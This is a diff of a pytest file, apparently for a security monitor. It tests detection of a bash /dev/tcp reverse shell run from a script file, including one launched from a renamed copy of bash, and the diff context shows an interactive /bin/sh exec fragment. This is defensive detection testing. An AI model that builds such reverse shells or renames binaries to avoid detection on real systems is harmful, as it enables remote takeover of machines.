@@ -677,18 +677,24 @@ exec("/bin/sh", "-i");
 """
 
 
-def test_reverse_shell_from_a_bash_script_file(agents, episode, net, shell_listener, tmp_path):
-    """`bash x.sh` with /dev/tcp inside the file: nothing on the command line; bash's own connect gives it away."""
+@pytest.mark.parametrize("renamed", [False, True])
+def test_reverse_shell_from_a_bash_script_file(renamed, agents, episode, net, shell_listener, tmp_path):
+    """`bash x.sh` with /dev/tcp inside the file: nothing on the command line; bash's own connect gives it
+    away, also from a renamed copy of bash (known by its sha256)."""
     _, out, _ = agents
     script = tmp_path / "x.sh"
     script.write_text(BASH_DEV_TCP.format(host=net.addr, port=shell_listener))
-    with shell_attack(episode, f"exec bash {script}") as p:
+    bash = os.path.realpath(shutil.which("bash"))
+    if renamed:
+        bash = str(tmp_path / "build-helper")
+        shutil.copy(shutil.which("bash"), bash)
+    with shell_attack(episode, f"exec {bash} {script}") as p:
         assert episode.wait_frozen()
         recs = wait_records(out, episode, lambda rs: "shell_outbound_connection" in alerts(rs))
         alert = next(r for r in recs if r["type"] == "alert" and r["rule"] == "shell_outbound_connection")
         ev = alert["evidence"][-1]
         assert (ev["type"], ev["address"], ev["port"]) == ("connect", net.addr, shell_listener)
-        assert alert["proc"]["pid"] == p.pid and alert["proc"]["exe"] == os.path.realpath(shutil.which("bash"))
+        assert alert["proc"]["pid"] == p.pid and alert["proc"]["exe"] == bash
         assert alert["action"] == "freeze" and response(recs)["outcome"] == "frozen"
 
 
